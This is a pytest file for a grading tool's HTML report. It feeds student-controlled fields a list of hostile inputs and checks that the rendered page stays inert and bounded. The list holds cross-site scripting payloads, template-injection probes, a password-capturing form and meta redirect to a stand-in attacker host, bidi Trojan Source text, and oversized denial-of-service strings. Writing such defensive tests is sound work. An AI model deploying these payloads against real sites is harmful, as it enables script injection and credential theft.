"""Whatever a student hands in, the page is ours: inert, readable and bounded."""

from dataclasses import replace

import pytest

from grader.model.observation import Axes, Curve, Figure, Output, Raised
from grader.model.result import Diagnosis, Shown, Tolerance, Worst
from grader.model.submission import Message
from grader.model.value import array
from grader.report import DiagnosisText, html
from grader.report.inert import UNSEEN

from .page import Page
from .samples import CAPTURE, RESULT, SUBMISSION, TEXTS, finding, png

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "closing": "</code></pre></div></section></main></body></html><script>alert(1)</script>",
    "style": "</style><style>body{display:none}</style>",
    "title": "</title><script>alert(1)</script>",
    "attribute": '" onmouseover="alert(1)" x="',
    "single-quote": "' onfocus='alert(1)' autofocus='",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg-css": "<svg><style>@import 'https://evil.example/x.css'</style></svg>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=1>'>",
    "iframe": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "object": "<object data='data:text/html,x'></object><embed src='https://evil.example'>",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "form": "<form action=https://evil.example><input name=password autofocus></form>",
    "link": '<a href="javascript:alert(1)">x</a><link rel=stylesheet href=//evil.example>',
    "markdown-link": "[click](javascript:alert(1)) ![x](https://evil.example/pixel.png)",
    "autolink": "<https://evil.example/> https://evil.example/ www.evil.example",
    "backticks": "`</code><script>alert(1)</script>`",
    "comment": "<!-- --!> <![CDATA[ <script>alert(1)</script> ]]> <?php ?>",
    "jinja": "{{ 7*7 }}{% for x in y %}{{ config.__class__.__mro__ }}",
    "format": "{value.__class__.__init__.__globals__} {0} %s ${HOME} %(x)s",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &amp;amp; &nosuch;",
    "bidi": "access = 'user\u202e \u2066// admin only\u2069 \u2066'",
    "isolates": "\u2067\u2068\u202a\u202b\u202d\u061c\u200e\u200f",
    "zero-width": "pa\u200byp\ufeffal\u00ad\u2060\U000e0041\U000e0001",
    "ansi": "\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\\x1b[2J\x9b31m",
    "controls": "\x00\x01\x08\x0b\x0c\x7f\x85\u2028\u2029\r",
    "surrogates": "\ud800\udfff \udc80",
    "zalgo": "e" + "\u0301\u0302\u0303" * 5000,
    "long-line": "A" * 10_000_000,
    "many-lines": "x\n" * 1_000_000,
    "many-quotes": "'''" * 200_000,
    "deep": "(" * 300_000,
    "escapes": "\\" * 300_000 + '"',
    "mutation": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "null-tag": "<scr\x00ipt>alert(1)</scr\x00ipt><script\u2028>alert(1)</script>",
    "css-text": "}*{background:url(https://evil.example)}@import'//evil.example';",
    "data-uri": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
}
OWN_TAGS = set(Page(html(RESULT, SUBMISSION, CAPTURE, "en", TEXTS["en"])).tags) | {"bdi"}


def infested(text):
    """A result, a submission and a capture that say `text` wherever a student has a say."""
    params = dict.fromkeys(
        ("value", "cell", "function", "inputs", "name", "type", "text", "drawn", "chosen",
         "options", "exercise", "needs", "actual", "expected", "why", "kind", "status"),
        text,
    )  # fmt: skip
    value = Shown(text, text, (1,), (text,), 1)
    checks = tuple(
        finding(
            f"c{at}",
            status,
            Message(id, params),
            expected=value,
            actual=replace(value, kind="text", dtype=None, shape=()),
            tolerance=Tolerance(1.0, None, "elementwise", 1.0, 0.0, 0.0, text),
            worst=Worst((0,), 3.0),
            cell=0,
            line=1,
            title={"en": text},
        )
        for at, (id, status) in enumerate(
            [
                ("check.value.differs", "failed"),
                ("check.value.after_error", "missing"),
                ("check.call.raised", "failed"),
                ("check.choice.wrong", "failed"),
                ("check.skipped", "skipped"),
                ("check.reference.failed", "error"),
                (text[:1000], "failed"),
            ]
        )
    )
    exercise = replace(
        RESULT.exercises[0],
        title={"en": text},
        checks=checks,
        status="failed",
        diagnoses=(Diagnosis("d", 0.9, ("c0",), params), Diagnosis(text[:99], 0.5, ("c0",))),
    )
    result = replace(
        RESULT,
        assignment=text,
        student=text,
        reason=text,
        status="not_graded",
        as_of=text,
        exercises=(exercise,),
        notices=(Message("notice.cell-missing", params), Message(text[:1000], params)) * 3,
    )
    cells = tuple(
        replace(cell, source=text, exercise=exercise.id, name=text, locked=False)
        for cell in SUBMISSION.cells[:2]
    )
    curve = Curve(array([0.0]), array([0.0]), text)
    seen = replace(
        CAPTURE.cells[0],
        status="error",
        error=Raised(text, text, 1),
        figures=(Figure((Axes((curve,), text, text, text, (text,)),)),),
        outputs=(
            Output("stdout", text),
            Output("stderr", text),
            Output("result", text),
            Output("error", text),
            Output("image", png=png(8, 8)),
            Output("image", text=text, png=text[:5000].encode("utf-8", "replace")),
        ),
    )
    capture = replace(CAPTURE, cells=(seen, replace(seen, cell=1)))
    return result, replace(SUBMISSION, cells=cells), capture


TEXT = {"d": DiagnosisText("**{value}** is `{value}`\n\n    {value}\n", "About {value}")}


@pytest.mark.parametrize("audience", ["student", "instructor"])
@pytest.mark.parametrize("name", HOSTILE)
def test_it_is_inert_and_bounded(name, audience):
    result, submission, capture = infested(HOSTILE[name])
    shown = html(replace(result, audience=audience), submission, capture, "en", TEXT)
    read = Page(shown)
    assert read.strange == []
    assert set(read.tags) <= OWN_TAGS
    assert not any(name.startswith("on") for _, name, _ in read.attributes)
    assert all(link.startswith("#") for link in read.links)
    assert all(picture.startswith("data:image/png;base64,") for picture in read.pictures)
    assert shown.count("<style>") == 1
    assert not UNSEEN.search(shown)
    assert len(shown) < 400_000
    shown.encode()


@pytest.mark.parametrize("name", ["script", "attribute", "jinja", "entities", "css-text"])
def test_it_is_shown_as_it_was_written(name):
    result, submission, capture = infested(HOSTILE[name])
    text = Page(html(result, submission, capture, "en", TEXT)).text
    assert text.count(HOSTILE[name]) > 10


def test_a_source_that_reads_otherwise_than_it_runs_is_shown_as_it_runs():
    result, submission, capture = infested(HOSTILE["bidi"])
    text = Page(html(result, submission, capture, "en", TEXT)).text
    assert "⟨U+202E⟩" in text
    assert "⟨U+2066⟩" in text
